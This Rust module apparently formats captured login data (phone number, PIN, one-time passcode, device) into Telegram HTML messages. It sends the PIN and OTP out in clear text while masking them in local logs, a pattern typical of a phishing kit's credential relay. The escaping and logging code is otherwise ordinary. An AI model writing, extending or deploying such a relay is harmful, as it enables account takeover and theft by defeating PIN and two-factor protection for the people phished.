//! Message construction for login/OTP events.
//!
//! Pure, deterministic formatting: the same payload always produces the
//! same HTML message. Every caller-controlled value is escaped before it
//! is interpolated, so the outbound text never carries live markup from
//! the request.

use serde_json::Value;

/// Payload keys with dedicated sections in the message. Everything else is
/// rendered under "Other Data" in the order the caller sent it.
const RECOGNIZED_KEYS: [&str; 5] = ["submittedAt", "loginPhone", "loginPin", "otp", "device"];

/// Escapes the characters Telegram's HTML parse mode treats as markup.
/// The ampersand is replaced first so entities are not double-escaped.
#[must_use]
pub fn esc_html(input: &str) -> String {
    input
        .replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// Renders any JSON value as a display string: null becomes empty, objects
/// and arrays become compact JSON (with a fixed fallback should
/// serialization ever fail), everything else its plain string form.
#[must_use]
pub fn to_safe_string(value: &Value) -> String {
    match value {
        Value::Null => String::new(),
        Value::String(s) => s.clone(),
        Value::Bool(b) => b.to_string(),
        Value::Number(n) => n.to_string(),
        Value::Object(_) | Value::Array(_) => serde_json::to_string(value)
            .unwrap_or_else(|_| "[unserializable object]".to_string()),
    }
}

fn esc_value(value: &Value) -> String {
    esc_html(&to_safe_string(value))
}

/// Partially redacts a secret-like string for diagnostic logs: all but the
/// last two characters become asterisks. Never used for the outbound message.
#[must_use]
pub fn mask(input: &str) -> String {
    let count = input.chars().count();
    if count == 0 {
        return String::new();
    }
    if count <= 2 {
        return "*".repeat(count);
    }
    let tail: String = input.chars().skip(count - 2).collect();
    format!("{}{tail}", "*".repeat(count - 2))
}

fn is_falsy(value: &Value) -> bool {
    match value {
        Value::Null => true,
        Value::Bool(b) => !b,
        Value::Number(n) => n.as_f64() == Some(0.0),
        Value::String(s) => s.is_empty(),
        Value::Object(_) | Value::Array(_) => false,
    }
}

/// Value-level mask for the diagnostic log: falsy values redact to the
/// empty string, everything else is masked in its display form.
#[must_use]
pub fn mask_value(value: &Value) -> String {
    if is_falsy(value) {
        String::new()
    } else {
        mask(&to_safe_string(value))
    }
}

/// A field counts as present when the key exists and the value is not null.
fn field<'a>(payload: &'a Value, key: &str) -> Option<&'a Value> {
    payload.get(key).filter(|v| !v.is_null())
}

/// Builds the HTML message for one event payload.
///
/// Section order is fixed: title, time, login details (phone/PIN/OTP),
/// device, then any unrecognized fields under "Other Data".
#[must_use]
pub fn build_message(payload: &Value) -> String {
    let mut text = String::from("<b>New Login / OTP Event</b>\n\n");

    if let Some(submitted_at) = field(payload, "submittedAt") {
        text.push_str(&format!("<b>Time:</b> {}\n\n", esc_value(submitted_at)));
    }

    let phone = field(payload, "loginPhone");
    let pin = field(payload, "loginPin");
    let otp = field(payload, "otp");

    if let Some(phone) = phone {
        text.push_str("<b>Login Details</b>\n");
        text.push_str(&format!("<b>Phone:</b> {}\n", esc_value(phone)));
    }
    if let Some(pin) = pin {
        text.push_str(&format!("<b>PIN:</b> {}\n", esc_value(pin)));
    }
    if let Some(otp) = otp {
        text.push_str(&format!("<b>OTP:</b> {}\n", esc_value(otp)));
    }
    if phone.is_some() || pin.is_some() || otp.is_some() {
        text.push('\n');
    }

    if let Some(device) = field(payload, "device") {
        text.push_str(&format!("<b>Device:</b> {}\n\n", esc_value(device)));
    }

    if let Some(map) = payload.as_object() {
        let extras: Vec<(&String, &Value)> = map
            .iter()
            .filter(|(key, _)| !RECOGNIZED_KEYS.contains(&key.as_str()))
            .collect();

        if !extras.is_empty() {
            text.push_str("<b>Other Data</b>\n");
            for (key, value) in extras {
                text.push_str(&format!(
                    "<b>{}:</b> {}\n",
                    esc_html(key),
                    esc_html(&to_safe_string(value))
                ));
            }
        }
    }

    text
}

/// Clones the payload with `loginPin` and `otp` replaced by their masked
/// forms. The raw values of those two fields never reach the logs. A null
/// field is left as-is so the logged record keeps the payload's shape.
#[must_use]
pub fn masked_payload(payload: &Value) -> Value {
    let mut clone = payload.clone();
    if let Some(map) = clone.as_object_mut() {
        for key in ["loginPin", "otp"] {
            if let Some(masked) = map.get(key).filter(|v| !v.is_null()).map(mask_value) {
                map.insert(key.to_string(), Value::String(masked));
            }
        }
    }
    clone
}

/// Pretty-prints the masked payload for the diagnostic log. Must never
/// fail: serialization errors fall back to a fixed literal.
#[must_use]
pub fn payload_log_string(payload: &Value) -> String {
    serde_json::to_string_pretty(&masked_payload(payload))
        .unwrap_or_else(|_| "[unserializable payload]".to_string())
}
